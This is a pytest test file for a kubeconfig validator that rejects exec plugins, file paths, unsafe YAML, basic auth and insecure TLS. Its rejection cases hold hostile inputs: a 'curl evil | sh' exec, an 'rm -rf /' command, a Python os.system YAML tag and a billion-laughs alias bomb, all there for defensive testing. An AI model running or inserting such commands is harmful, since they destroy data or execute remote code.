"""Kubeconfig validation: every rule with its message (field + key phrase), and what a valid file yields.

Fixtures carry a real CA and client certificate made with `cryptography` (`pki()`), so the PEM checks and the
cert/key pairing run against what kubeadm, k3s and RKE2 write.
"""

from __future__ import annotations

import base64
import copy
import datetime as dt
import functools
import json
import pickle
import time
from dataclasses import dataclass
from typing import Any

import pytest
import yaml
from cryptography import x509
from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, rsa
from cryptography.x509.oid import ExtendedKeyUsageOID, NameOID

from clusters.kubeconfig import (
    MAX_BYTES,
    ClusterAccess,
    KubeconfigError,
    Problem,
    fingerprint,
    list_contexts,
    parse_kubeconfig,
    redacted_summary,
    to_kubeconfig,
)

SERVER = "https://prod.example.net:6443"
TOKEN = "eyJhbGciOiJSUzI1NiJ9.cG9ydGFsLXRlc3QtdG9rZW4.c2lnbmF0dXJlLW5vdC1yZWFs"
CLUSTER, USER, CONTEXT = "prod-cluster", "portal", "prod"
DROP = object()  # in an override: delete this key
_TOKEN_USER = object()


# --- fixtures: a real PKI and kubeconfigs built from it -----------------------------------------------------


@dataclass(frozen=True)
class Pki:
    ca_pem: bytes
    client_cert_pem: bytes
    client_key_pem: bytes  # "BEGIN RSA PRIVATE KEY", as kubeadm writes it
    other_key_pem: bytes  # a valid key that does not belong to the client certificate
    encrypted_key_pem: bytes
    server_cert_pem: bytes  # a second certificate (changes the CA fingerprint)


def _pem_key(key: Any, *, fmt=serialization.PrivateFormat.PKCS8, password: bytes | None = None) -> bytes:
    encryption = serialization.BestAvailableEncryption(password) if password else serialization.NoEncryption()
    return key.private_bytes(serialization.Encoding.PEM, fmt, encryption)


def _cert(subject: str, public_key: Any, issuer: str, signing_key: Any, *, ca: bool) -> x509.Certificate:
    now = dt.datetime.now(dt.UTC)
    builder = (
        x509.CertificateBuilder()
        .subject_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, subject)]))
        .issuer_name(x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, issuer)]))
        .public_key(public_key)
        .serial_number(x509.random_serial_number())
        .not_valid_before(now - dt.timedelta(hours=1))
        .not_valid_after(now + dt.timedelta(days=365))
        .add_extension(x509.BasicConstraints(ca=ca, path_length=None), critical=True)
    )
    if not ca:
        builder = builder.add_extension(
            x509.ExtendedKeyUsage([ExtendedKeyUsageOID.CLIENT_AUTH, ExtendedKeyUsageOID.SERVER_AUTH]),
            critical=False,
        )
    return builder.sign(signing_key, hashes.SHA256())


@functools.cache
def pki() -> Pki:
    """A self-signed CA (EC P-256) and a client certificate it signed (RSA 2048, CN=portal, O=dnsportal)."""
    ca_key = ec.generate_private_key(ec.SECP256R1())
    ca = _cert("test-kubernetes-ca", ca_key.public_key(), "test-kubernetes-ca", ca_key, ca=True)
    client_key = rsa.generate_private_key(public_exponent=65537, key_size=2048)
    client = _cert("portal", client_key.public_key(), "test-kubernetes-ca", ca_key, ca=False)
    other_key = ec.generate_private_key(ec.SECP256R1())
    server = _cert("kube-apiserver", other_key.public_key(), "test-kubernetes-ca", ca_key, ca=False)
    pem = serialization.Encoding.PEM
    return Pki(
        ca_pem=ca.public_bytes(pem),
        client_cert_pem=client.public_bytes(pem),
        client_key_pem=_pem_key(client_key, fmt=serialization.PrivateFormat.TraditionalOpenSSL),
        other_key_pem=_pem_key(other_key),
        encrypted_key_pem=_pem_key(client_key, password=b"correct horse"),
        server_cert_pem=server.public_bytes(pem),
    )


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def cert_user() -> dict:
    return {
        "client-certificate-data": b64(pki().client_cert_pem),
        "client-key-data": b64(pki().client_key_pem),
    }


def eks_user(args: list[str] | None = None, command: str = "aws") -> dict:
    return {
        "exec": {
            "apiVersion": "client.authentication.k8s.io/v1beta1",
            "command": command,
            # what `aws eks update-kubeconfig` writes
            "args": args
            or ["--region", "eu-west-1", "eks", "get-token", "--cluster-name", "prod", "--output", "json"],
        }
    }


def _merge(base: dict, changes: dict) -> dict:
    out = dict(base)
    for key, value in changes.items():
        if value is DROP:
            out.pop(key, None)
        else:
            out[key] = value
    return out


def kubeconfig(*, cluster: dict | None = None, user: Any = _TOKEN_USER, **top: Any) -> dict:
    """A valid one-context kubeconfig (token user, inline CA); `cluster` changes fields of the cluster,
    `user` replaces the user's fields, keyword arguments change top-level keys (DROP deletes)."""
    cluster_body = _merge({"server": SERVER, "certificate-authority-data": b64(pki().ca_pem)}, cluster or {})
    config = {
        "apiVersion": "v1",
        "kind": "Config",
        "clusters": [{"name": CLUSTER, "cluster": cluster_body}],
        "users": [{"name": USER, "user": {"token": TOKEN} if user is _TOKEN_USER else user}],
        "contexts": [{"name": CONTEXT, "context": {"cluster": CLUSTER, "user": USER}}],
        "current-context": CONTEXT,
        "preferences": {},
    }
    return _merge(config, top)


def dump(config: Any) -> str:
    return yaml.safe_dump(config, sort_keys=False)


def problems(source: Any, **kwargs: Any) -> list[Problem]:
    text = source if isinstance(source, str | bytes) else dump(source)
    with pytest.raises(KubeconfigError) as info:
        parse_kubeconfig(text, **kwargs)
    return info.value.problems


def assert_problem(source: Any, field: str, phrase: str, **kwargs: Any) -> list[Problem]:
    found = problems(source, **kwargs)
    assert any(p.field == field and phrase in p.message for p in found), found
    assert all(TOKEN not in p.message for p in found)
    return found


CLUSTER_FIELD = f"clusters[{CLUSTER}].cluster"
USER_FIELD = f"users[{USER}].user"


# --- what a valid file yields -------------------------------------------------------------------------------


def test_token_kubeconfig_yields_the_access_with_pem_ca():
    access = parse_kubeconfig(dump(kubeconfig()))
    assert access == ClusterAccess(
        context=CONTEXT,
        cluster_name=CLUSTER,
        user_name=USER,
        server=SERVER,
        ca_data=pki().ca_pem,
        token=TOKEN,
        client_cert_data=None,
        client_key_data=None,
        insecure_skip_tls_verify=False,
        tls_server_name=None,
        needs_eks_token=False,
    )


def test_client_certificate_kubeconfig_yields_pem_cert_and_key():
    access = parse_kubeconfig(dump(kubeconfig(user=cert_user())))
    assert access.client_cert_data == pki().client_cert_pem
    assert access.client_key_data == pki().client_key_pem
    assert access.token is None
    assert access.auth_kind == "client certificate"


def test_bytes_and_str_give_the_same_access():
    text = dump(kubeconfig(user=cert_user()))
    assert parse_kubeconfig(text.encode()) == parse_kubeconfig(text)


def test_without_ca_data_the_system_trust_store_is_used():
    access = parse_kubeconfig(dump(kubeconfig(cluster={"certificate-authority-data": DROP})))
    assert access.ca_data is None


def test_base64_with_line_breaks_is_read_as_kubectl_reads_it():
    wrapped = "\n".join(b64(pki().ca_pem)[i : i + 64] for i in range(0, len(b64(pki().ca_pem)), 64))
    access = parse_kubeconfig(dump(kubeconfig(cluster={"certificate-authority-data": wrapped})))
    assert access.ca_data == pki().ca_pem


def test_tls_server_name_and_path_in_server_url_are_kept():
    server = "https://rancher.example.net/k8s/clusters/c-m-abc123"
    access = parse_kubeconfig(dump(kubeconfig(cluster={"server": server, "tls-server-name": "kubernetes"})))
    assert (access.server, access.tls_server_name) == (server, "kubernetes")


def test_only_the_chosen_context_is_checked_the_rest_may_be_anything():
    config = kubeconfig()
    config["clusters"] += [
        {"name": "dev", "cluster": {"server": "http://dev", "certificate-authority": "/etc/ca.crt"}},
        "garbage",
        {"cluster": 42},
    ]
    config["users"] += [
        {"name": "dev", "user": {"exec": {"command": "sh", "args": ["-c", "rm -rf /"]}, "tokenFile": "/x"}},
        None,
    ]
    config["contexts"] += [{"name": "dev", "context": {"cluster": "dev", "user": "dev"}}, [1, 2]]
    assert parse_kubeconfig(dump(config)).context == CONTEXT
    assert problems(config, context="dev")  # and the other one is refused when chosen


def test_a_kubeconfig_using_yaml_anchors_in_moderation_is_accepted():
    text = dump(kubeconfig()).replace(f"- name: {USER}\n  user:", f"- name: {USER}\n  user: &creds")
    text += "extensions:\n- name: copy\n  extension: *creds\n"
    assert parse_kubeconfig(text).token == TOKEN


# --- not YAML / not a Config / too big ----------------------------------------------------------------------


def test_not_yaml_names_line_and_column():
    found = assert_problem("apiVersion: v1\nclusters: [\n  {a: b: c}\n", "(file)", "not valid YAML")
    assert "line 3, column" in found[0].message


def test_yaml_error_does_not_quote_the_offending_line():
    found = assert_problem(
        f"users:\n- name: x\n  user: {{token: {TOKEN}: oops}}\n", "(file)", "not valid YAML"
    )
    assert TOKEN not in str(found)


@pytest.mark.parametrize(
    "text",
    [b"\xff\xfe\xfa", b"kind: Config\x00", "kind: \x1b[31mConfig"],
    ids=["not-utf8", "nul-byte", "escape-char"],
)
def test_unreadable_text_is_not_yaml(text):
    assert_problem(text, "(file)", "not readable as YAML text")


def test_a_key_written_twice_is_refused_as_kubectl_does():
    text = dump(kubeconfig()).replace(f"    token: {TOKEN}\n", f"    token: {TOKEN}\n    token: other\n")
    found = assert_problem(text, "(file)", "found the key 'token' twice")
    assert "line 12, column 5" in found[0].message


def test_two_documents_are_not_one_kubeconfig():
    assert_problem(dump(kubeconfig()) + "---\n" + dump(kubeconfig()), "(file)", "expected a single document")


@pytest.mark.parametrize(
    "text", ["- a\n- b\n", "just text", "42", "true"], ids=["list", "str", "int", "bool"]
)
def test_a_document_that_is_not_a_mapping_is_not_a_kubeconfig(text):
    assert_problem(text, "(file)", "not a kubeconfig: the document is")


@pytest.mark.parametrize("text", ["", "# only a comment\n", "---\n", "null"])
def test_an_empty_file_says_so(text):
    assert_problem(text, "(file)", "the file is empty")


def test_kind_other_than_config_is_refused():
    assert_problem(kubeconfig(kind="Pod"), "kind", "kind is 'Pod', not Config")


def test_api_version_other_than_v1_is_refused():
    assert_problem(kubeconfig(apiVersion="v2"), "apiVersion", "a kubeconfig is v1")


def test_a_mapping_without_the_three_lists_is_not_a_kubeconfig():
    assert_problem({"apiVersion": "apps/v1", "spec": {}}, "(file)", "no clusters, contexts or users lists")


@pytest.mark.parametrize("key", ["clusters", "contexts", "users"])
def test_each_list_must_be_a_list(key):
    assert_problem(kubeconfig(**{key: {"name": "x"}}), key, "must be a list of named entries, not a mapping")


def test_current_context_must_be_a_name():
    assert_problem(kubeconfig(**{"current-context": ["a"]}), "current-context", "must be a context name")


def test_a_file_over_one_mib_is_refused_before_parsing():
    # unparseable on purpose: a parser run first would report the YAML, not the size
    for text in ("[" * (MAX_BYTES + 1), b"[" * (MAX_BYTES + 1), "é" * (MAX_BYTES // 2 + 1)):
        started = time.monotonic()
        found = assert_problem(text, "(file)", "over 1 MiB")
        assert len(found) == 1
        assert time.monotonic() - started < 1
        with pytest.raises(KubeconfigError, match="over 1 MiB"):
            list_contexts(text)


def test_a_file_of_exactly_one_mib_is_read():
    text = dump(kubeconfig())
    text += "#" + "x" * (MAX_BYTES - len(text.encode()) - 2) + "\n"
    assert len(text.encode()) == MAX_BYTES
    assert parse_kubeconfig(text).token == TOKEN


# --- YAML that must not run or explode ----------------------------------------------------------------------


def test_python_tags_are_not_constructed():
    text = "!!python/object/apply:os.system ['touch /tmp/dnsportal-pwned']\n"
    assert_problem(text, "(file)", "could not determine a constructor")


def test_a_billion_laughs_document_is_refused_quickly():
    lines = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    lines += [f"{n}: &{n} [{','.join([f'*{p}'] * 10)}]" for p, n in zip("abcdefgh", "bcdefghi", strict=True)]
    started = time.monotonic()
    assert_problem("\n".join(lines) + "\n", "(file)", "aliases expand to more than")
    assert time.monotonic() - started < 2


def test_an_alias_inside_its_own_anchor_is_refused():
    assert_problem("clusters: &a [*a]\n", "(file)", "recursive anchor")


@pytest.mark.parametrize(
    "text",
    ["[" * 5000 + "]" * 5000, "".join(f"{'  ' * i}k{i}:\n" for i in range(200)) + "  " * 200 + "v\n"],
    ids=["flow", "block"],
)
def test_deep_nesting_is_refused(text):
    assert_problem(text, "(file)", "levels deep")


def test_aliases_that_nest_deeper_than_the_limit_are_refused():
    lines = ["a0: &a0 [x]"] + [f"a{i}: &a{i} [*a{i - 1}]" for i in range(1, 100)]
    assert_problem("\n".join(lines) + "\n", "(file)", "levels deep")


@pytest.mark.parametrize(
    ("value", "phrase"),
    [
        ("2001-13-45", "is not a date"),
        ("9" * 5000, "is not a number"),
        ("!!int ''", "is not a number"),
        ("!!float x", "is not a number"),
        ("!!bool maybe", "is not true or false"),
        ("!!timestamp soon", "is not a date"),
        ("!!binary ÄÖ", "base64"),
    ],
    ids=["bad-date", "huge-int", "empty-int", "bad-float", "bad-bool", "bad-timestamp", "bad-binary"],
)
def test_scalars_that_look_typed_but_are_not_are_refused_with_their_position(value, phrase):
    found = assert_problem(f"kind: Config\nclusters: []\nx: {value}\n", "(file)", phrase)
    assert "at line 3, column 4" in found[0].message


# --- choosing the context -----------------------------------------------------------------------------------


def _two_contexts(**top: Any) -> dict:
    config = kubeconfig(**top)
    config["contexts"].append({"name": "staging", "context": {"cluster": CLUSTER, "user": USER}})
    return config


def test_no_contexts_is_refused():
    assert_problem(kubeconfig(contexts=[]), "contexts", "the file has no contexts")
    assert_problem(kubeconfig(contexts=DROP), "contexts", "the file has no contexts")


def test_several_contexts_without_current_context_list_the_choices():
    assert_problem(_two_contexts(**{"current-context": DROP}), "contexts", "choose one of: 'prod', 'staging'")
    assert_problem(_two_contexts(**{"current-context": ""}), "contexts", "2 contexts and no current-context")


def test_the_context_argument_chooses_and_overrides_current_context():
    assert (
        parse_kubeconfig(dump(_two_contexts(**{"current-context": DROP})), context="staging").context
        == "staging"
    )
    assert parse_kubeconfig(dump(_two_contexts()), context="staging").context == "staging"


def test_current_context_is_the_default():
    assert parse_kubeconfig(dump(_two_contexts(**{"current-context": "staging"}))).context == "staging"


def test_a_single_context_is_used_without_current_context():
    assert parse_kubeconfig(dump(kubeconfig(**{"current-context": DROP}))).context == CONTEXT


def test_a_chosen_context_that_does_not_exist_is_refused():
    assert_problem(kubeconfig(), "contexts", "no context named 'nope'; choose one of: 'prod'", context="nope")


def test_a_current_context_that_does_not_exist_is_refused():
    assert_problem(
        kubeconfig(**{"current-context": "gone"}), "current-context", "names 'gone', which is not in"
    )


def test_a_context_name_written_twice_is_refused():
    config = kubeconfig()
    config["contexts"].append(copy.deepcopy(config["contexts"][0]))
    assert_problem(config, f"contexts[{CONTEXT}]", "names must be unique")


def test_a_context_that_is_not_a_mapping_is_refused():
    config = kubeconfig(contexts=[{"name": CONTEXT, "context": "prod-cluster"}])
    assert_problem(config, f"contexts[{CONTEXT}].context", "must be a mapping with a cluster and a user")


# --- the context's cluster and user -------------------------------------------------------------------------


def test_the_context_cluster_missing_from_clusters_is_refused():
    field = f"contexts[{CONTEXT}].context.cluster"
    assert_problem(kubeconfig(clusters=[]), field, f"names cluster '{CLUSTER}', which is not in clusters")


def test_the_context_user_missing_from_users_is_refused():
    field = f"contexts[{CONTEXT}].context.user"
    assert_problem(kubeconfig(users=DROP), field, f"names user '{USER}', which is not in users")


def test_a_context_naming_no_cluster_or_user_reports_both():
    config = kubeconfig(contexts=[{"name": CONTEXT, "context": {"namespace": "default"}}])
    found = problems(config)
    assert {p.field for p in found} == {
        f"contexts[{CONTEXT}].context.cluster",
        f"contexts[{CONTEXT}].context.user",
    }
    assert all("the context names no" in p.message for p in found)


def test_a_cluster_name_written_twice_is_refused():
    config = kubeconfig()
    config["clusters"].append(copy.deepcopy(config["clusters"][0]))
    assert_problem(config, f"clusters[{CLUSTER}]", "names must be unique")


def test_a_cluster_entry_without_its_mapping_is_refused():
    assert_problem(kubeconfig(clusters=[{"name": CLUSTER}]), CLUSTER_FIELD, "needs a cluster mapping")


# --- plugins: a kubeconfig runs nothing ---------------------------------------------------------------------


@pytest.mark.parametrize(
    "exec_spec",
    [
        {"command": "gke-gcloud-auth-plugin"},
        {"command": "kubelogin", "args": ["get-token", "--server-id", "x"]},
        {"command": "sh", "args": ["-c", "curl evil | sh"]},
        {"command": "aws", "args": ["s3", "cp", "s3://bucket/x", "/tmp/x"]},
        {"command": "aws", "args": ["eks", "describe-cluster", "--name", "prod"]},
        {"command": "aws", "args": ["eks", "get-token"]},  # no cluster named
        {"command": "aws-iam-authenticator", "args": ["verify", "-i", "prod"]},
        "aws eks get-token --cluster-name prod",
    ],
    ids=[
        "gke",
        "kubelogin",
        "shell",
        "aws-s3",
        "aws-describe",
        "eks-no-cluster",
        "authenticator-verify",
        "str",
    ],
)
@pytest.mark.parametrize("allow_eks_exec", [False, True])
def test_exec_plugins_are_refused(exec_spec, allow_eks_exec):
    found = assert_problem(
        kubeconfig(user={"exec": exec_spec}),
        f"{USER_FIELD}.exec",
        "exec plugins are refused: a kubeconfig registered here runs nothing; put a token or "
        "client-certificate-data inline",
        allow_eks_exec=allow_eks_exec,
    )
    assert len(found) == 1  # not also "no credentials": one cause, one problem


def test_an_eks_exec_without_the_eks_option_is_refused_with_the_way_out():
    found = assert_problem(kubeconfig(user=eks_user()), f"{USER_FIELD}.exec", "runs nothing")
    assert "register it as an EKS cluster" in found[0].message


@pytest.mark.parametrize(
    ("user", "cluster", "region", "role"),
    [
        (eks_user(), "prod", "eu-west-1", None),
        (
            eks_user(["eks", "get-token", "--cluster-name=prod", "--region=us-east-1"]),
            "prod",
            "us-east-1",
            None,
        ),
        (
            eks_user(
                [
                    "--debug",
                    "eks",
                    "get-token",
                    "--cluster-name",
                    "prod",
                    "--role-arn",
                    "arn:aws:iam::1:role/r",
                ]
            ),
            "prod",
            None,
            "arn:aws:iam::1:role/r",
        ),
        (eks_user(["token", "-i", "prod"], command="aws-iam-authenticator"), "prod", None, None),
        (
            eks_user(
                ["token", "-i", "prod", "-r", "arn:aws:iam::1:role/r"],
                command="/usr/local/bin/aws-iam-authenticator",
            ),
            "prod",
            None,
            "arn:aws:iam::1:role/r",
        ),
        (
            {
                "exec": {
                    "command": "aws",
                    "args": ["eks", "get-token", "--cluster-name", "prod"],
                    "env": [{"name": "AWS_REGION", "value": "ap-south-1"}],
                }
            },
            "prod",
            "ap-south-1",
            None,
        ),
    ],
    ids=["update-kubeconfig", "equals-form", "role-arn", "authenticator", "authenticator-path", "env-region"],
)
def test_an_eks_token_exec_is_accepted_with_the_eks_option(user, cluster, region, role):
    access = parse_kubeconfig(dump(kubeconfig(user=user)), allow_eks_exec=True)
    assert access.needs_eks_token
    assert access.token is None
    assert (access.eks_cluster_name, access.eks_region, access.eks_role_arn) == (cluster, region, role)
    assert access.auth_kind == "EKS token"


def test_auth_provider_plugins_are_refused():
    user = {"auth-provider": {"name": "oidc", "config": {"idp-issuer-url": "https://idp", "client-id": "k"}}}
    found = assert_problem(kubeconfig(user=user), f"{USER_FIELD}.auth-provider", "runs nothing")
    assert "auth-provider plugins ('oidc') are refused" in found[0].message
    assert len(found) == 1


# --- files: the portal reads no file on its host ------------------------------------------------------------


@pytest.mark.parametrize(
    ("where", "key", "inline"),
    [
        ("cluster", "certificate-authority", "certificate-authority-data"),
        ("user", "client-certificate", "client-certificate-data"),
        ("user", "client-key", "client-key-data"),
        ("user", "tokenFile", "token"),
        ("user", "token-file", "token"),
    ],
)
def test_file_paths_are_refused(where, key, inline):
    if where == "cluster":
        config, field = kubeconfig(cluster={key: "/etc/kubernetes/pki/ca.crt"}), f"{CLUSTER_FIELD}.{key}"
    else:
        config, field = kubeconfig(user={key: "/var/run/secrets/x"}), f"{USER_FIELD}.{key}"
    found = assert_problem(config, field, "file paths are refused: the portal reads no file on its host")
    assert inline in next(p.message for p in found if p.field == field)


def test_client_certificate_and_key_paths_give_one_problem_each():
    found = problems(kubeconfig(user={"client-certificate": "/a.crt", "client-key": "/a.key"}))
    assert [p.field for p in found] == [f"{USER_FIELD}.client-certificate", f"{USER_FIELD}.client-key"]


def test_an_empty_path_is_unset_as_for_kubectl():
    assert parse_kubeconfig(dump(kubeconfig(cluster={"certificate-authority": ""}))).ca_data == pki().ca_pem


# --- TLS ----------------------------------------------------------------------------------------------------


def test_insecure_skip_tls_verify_is_refused_without_the_override():
    config = kubeconfig(cluster={"insecure-skip-tls-verify": True, "certificate-authority-data": DROP})
    assert_problem(
        config, f"{CLUSTER_FIELD}.insecure-skip-tls-verify", "unless an admin ticks the insecure override"
    )


def test_insecure_skip_tls_verify_is_accepted_with_the_override():
    config = kubeconfig(cluster={"insecure-skip-tls-verify": True, "certificate-authority-data": DROP})
    access = parse_kubeconfig(dump(config), allow_insecure=True)
    assert access.insecure_skip_tls_verify
    assert redacted_summary(access)["insecure_skip_tls_verify"] is True


def test_insecure_skip_tls_verify_false_is_fine():
    assert not parse_kubeconfig(
        dump(kubeconfig(cluster={"insecure-skip-tls-verify": False}))
    ).insecure_skip_tls_verify


def test_insecure_together_with_a_ca_is_contradictory():
    config = kubeconfig(cluster={"insecure-skip-tls-verify": True})
    assert_problem(config, f"{CLUSTER_FIELD}.insecure-skip-tls-verify", "contradictory", allow_insecure=True)


def test_insecure_skip_tls_verify_must_be_a_boolean():
    config = kubeconfig(cluster={"insecure-skip-tls-verify": "true"})
    assert_problem(config, f"{CLUSTER_FIELD}.insecure-skip-tls-verify", "must be true or false")


# --- the server URL -----------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("server", "phrase"),
    [
        (DROP, "the cluster has no server URL"),
        ("", "the cluster has no server URL"),
        ("http://prod.example.net:6443", "must be https (scheme is 'http')"),
        ("HTTP://prod.example.net", "must be https"),
        ("ftp://prod.example.net", "must be https"),
        ("prod.example.net:6443", "must be https"),
        ("//prod.example.net:6443", "must be https (scheme is none)"),
        ("https://", "has no host"),
        ("https:///api", "has no host"),
        ("https://[::1", "cannot be read as a URL"),
        ("https://prod.example.net:99999", "cannot be read as a URL"),
        ("https://prod.example.net:port", "cannot be read as a URL"),
        ("https://admin:hunter2@prod.example.net", "must not carry a user name or password"),
        ("https://prod.example.net/?x=1", "must not have a query"),
        ("https://prod.example.net\n/api", "spaces or control characters"),
        (6443, "must be a URL such as https://host:6443, not a number"),
        (["https://a"], "not a list"),
    ],
)
def test_the_server_must_be_an_https_url_with_a_host(server, phrase):
    found = assert_problem(kubeconfig(cluster={"server": server}), f"{CLUSTER_FIELD}.server", phrase)
    assert "hunter2" not in str(found)


def test_https_scheme_is_case_insensitive_and_ipv6_hosts_work():
    assert parse_kubeconfig(dump(kubeconfig(cluster={"server": "HTTPS://[2001:db8::1]:6443"}))).server


def test_tls_server_name_must_be_a_host_name():
    assert_problem(
        kubeconfig(cluster={"tls-server-name": 5}), f"{CLUSTER_FIELD}.tls-server-name", "host name"
    )


def test_a_proxy_is_refused_rather_than_ignored():
    config = kubeconfig(cluster={"proxy-url": "socks5://proxy:1080"})
    assert_problem(config, f"{CLUSTER_FIELD}.proxy-url", "proxies are not supported")


# --- inline data: base64 of PEM -----------------------------------------------------------------------------


_DATA_FIELDS = [
    ("cluster", "certificate-authority-data", "certificate"),
    ("user", "client-certificate-data", "certificate"),
    ("user", "client-key-data", "private key"),
]


def _with_data(where: str, key: str, value: Any) -> tuple[dict, str]:
    if where == "cluster":
        return kubeconfig(cluster={key: value}), f"{CLUSTER_FIELD}.{key}"
    return kubeconfig(user={**cert_user(), key: value}), f"{USER_FIELD}.{key}"


@pytest.mark.parametrize(("where", "key", "what"), _DATA_FIELDS)
def test_data_that_is_not_base64_is_refused(where, key, what):
    config, field = _with_data(where, key, "not base64 at all!")
    assert_problem(config, field, f"is not valid base64; it must be base64 of the PEM {what}")
    config, field = _with_data(where, key, b64(b"abc")[:-1])  # bad padding
    assert_problem(config, field, "is not valid base64")
    config, field = _with_data(where, key, "ÄÖÜ")
    assert_problem(config, field, "is not valid base64")


@pytest.mark.parametrize(("where", "key", "what"), _DATA_FIELDS)
def test_pem_pasted_without_base64_is_explained(where, key, what):
    pem = pki().client_key_pem if what == "private key" else pki().ca_pem
    config, field = _with_data(where, key, pem.decode())
    assert_problem(config, field, "is PEM text, not base64 of it")


@pytest.mark.parametrize(("where", "key", "what"), _DATA_FIELDS)
def test_base64_of_something_that_is_not_pem_is_refused(where, key, what):
    config, field = _with_data(where, key, b64(b"\x30\x82\x01\x0a definitely DER, not PEM"))
    assert_problem(config, field, "decodes to something that is not")


@pytest.mark.parametrize(("where", "key", "what"), _DATA_FIELDS)
def test_pem_armour_around_garbage_is_refused(where, key, what):
    label = "RSA PRIVATE KEY" if what == "private key" else "CERTIFICATE"
    garbage = f"-----BEGIN {label}-----\nAAAA\n-----END {label}-----\n".encode()
    config, field = _with_data(where, key, b64(garbage))
    assert_problem(config, field, f"decodes to PEM that holds no readable {what}")


@pytest.mark.parametrize(("where", "key", "what"), _DATA_FIELDS)
def test_data_must_be_text(where, key, what):
    config, field = _with_data(where, key, 12345)
    assert_problem(config, field, f"must be base64 text of a PEM {what}, not a number")


def test_an_encrypted_client_key_is_refused():
    config = kubeconfig(user={**cert_user(), "client-key-data": b64(pki().encrypted_key_pem)})
    assert_problem(config, f"{USER_FIELD}.client-key-data", "encrypted with a passphrase")


def test_a_client_certificate_without_its_key_is_refused():
    user = {"client-certificate-data": b64(pki().client_cert_pem)}
    assert_problem(kubeconfig(user=user), f"{USER_FIELD}.client-certificate-data", "needs its key")


def test_a_client_key_without_its_certificate_is_refused():
    user = {"client-key-data": b64(pki().client_key_pem)}
    assert_problem(kubeconfig(user=user), f"{USER_FIELD}.client-key-data", "needs its certificate")


def test_a_client_key_of_another_certificate_is_refused():
    user = {**cert_user(), "client-key-data": b64(pki().other_key_pem)}
    assert_problem(
        kubeconfig(user=user), f"{USER_FIELD}.client-key-data", "does not belong to client-certificate"
    )


# --- credentials --------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "user", [{}, None, {"token": ""}, {"exec": None}], ids=["empty", "null", "blank", "null-exec"]
)
def test_a_user_without_credentials_is_refused(user):
    assert_problem(kubeconfig(user=user), USER_FIELD, "the user has no credentials")


def test_a_user_that_is_not_a_mapping_is_refused():
    assert_problem(kubeconfig(user=[TOKEN]), USER_FIELD, "must be a mapping of credentials, not a list")


@pytest.mark.parametrize(
    "user",
    [
        {"username": "admin", "password": "hunter2"},
        {"password": "hunter2"},
        {"token": TOKEN, "username": "a"},
    ],
)
def test_basic_auth_is_refused(user):
    key = "username" if "username" in user else "password"
    found = assert_problem(kubeconfig(user=user), f"{USER_FIELD}.{key}", "Kubernetes removed it in 1.19")
    assert len(found) == 1
    assert "hunter2" not in str(found)


def test_a_token_must_be_one_clean_string():
    assert_problem(kubeconfig(user={"token": 12345}), f"{USER_FIELD}.token", "must be a string, not a number")
    assert_problem(kubeconfig(user={"token": TOKEN + "\n"}), f"{USER_FIELD}.token", "line breaks")
    assert_problem(kubeconfig(user={"token": "Bearer " + TOKEN}), f"{USER_FIELD}.token", "spaces")


@pytest.mark.parametrize("key", ["as", "as-groups", "as-uid", "as-user-extra"])
def test_impersonation_is_refused_rather_than_ignored(key):
    value = ["system:masters"] if key == "as-groups" else {"k": ["v"]} if key == "as-user-extra" else "admin"
    assert_problem(kubeconfig(user={"token": TOKEN, key: value}), f"{USER_FIELD}.{key}", "impersonation")


def test_token_and_client_certificate_together_are_both_kept():
    access = parse_kubeconfig(dump(kubeconfig(user={"token": TOKEN, **cert_user()})))
    assert access.token == TOKEN and access.client_cert_data == pki().client_cert_pem
    assert access.auth_kind == "token + client certificate"


# --- every problem, not only the first ----------------------------------------------------------------------


def test_every_problem_is_reported_at_once():
    config = kubeconfig(
        cluster={"server": "http://prod", "certificate-authority": "/ca", "insecure-skip-tls-verify": True},
        user={"exec": {"command": "x"}, "tokenFile": "/t", "username": "a", "client-key-data": "!!"},
    )
    found = problems(config)
    assert [p.field for p in found] == [
        f"{CLUSTER_FIELD}.server",
        f"{CLUSTER_FIELD}.certificate-authority",
        f"{CLUSTER_FIELD}.insecure-skip-tls-verify",
        f"{USER_FIELD}.exec",
        f"{USER_FIELD}.tokenFile",
        f"{USER_FIELD}.username",
        f"{USER_FIELD}.client-key-data",  # not base64
        f"{USER_FIELD}.client-key-data",  # and without its certificate
    ]


def test_the_error_joins_field_and_message_and_survives_pickling():
    exc = KubeconfigError([Problem("contexts", "one"), Problem("(file)", "two")])
    assert str(exc) == "contexts: one; (file): two"
    assert isinstance(exc, ValueError)
    again = pickle.loads(pickle.dumps(exc))  # noqa: S301 - our own bytes
    assert again.problems == exc.problems and str(again) == str(exc)


def test_long_names_are_clipped_in_fields_and_messages():
    name = "n" * 100_000
    found = problems(kubeconfig(**{"current-context": name}))
    assert all(len(str(p)) < 500 for p in found)


# --- list_contexts ------------------------------------------------------------------------------------------


def test_list_contexts_gives_names_in_file_order_and_the_current_one():
    config = _two_contexts(**{"current-context": "staging"})
    config["contexts"].insert(0, {"name": "alpha", "context": {}})
    config["contexts"].append({"name": "prod", "context": {}})  # twice: listed once
    config["contexts"].append({"context": {}})  # no name: cannot be chosen
    assert list_contexts(dump(config)) == (["alpha", "prod", "staging"], "staging")


def test_list_contexts_without_current_context():
    assert list_contexts(dump(_two_contexts(**{"current-context": DROP}))) == (["prod", "staging"], None)
    assert list_contexts(dump(kubeconfig(contexts=[]))) == ([], CONTEXT)


@pytest.mark.parametrize("text", ["a: b: c", "- 1", "kind: Secret\nclusters: []"])
def test_list_contexts_refuses_what_is_not_a_config(text):
    with pytest.raises(KubeconfigError):
        list_contexts(text)


# --- fingerprint, summary, repr, the stored form ------------------------------------------------------------


def _access(**changes: Any) -> ClusterAccess:
    return parse_kubeconfig(dump(kubeconfig(**changes)))


def test_fingerprint_is_stable_sha256_hex_and_reveals_nothing():
    first, second = fingerprint(_access()), fingerprint(_access())
    assert first == second
    assert len(first) == 64 and int(first, 16) >= 0
    assert TOKEN not in first


def test_fingerprint_ignores_how_the_pem_is_wrapped():
    pem = pki().ca_pem.replace(b"\n", b"\r\n")
    assert fingerprint(_access(cluster={"certificate-authority-data": b64(pem)})) == fingerprint(_access())


def test_fingerprint_changes_with_server_ca_and_identity():
    base = fingerprint(_access())
    variants = [
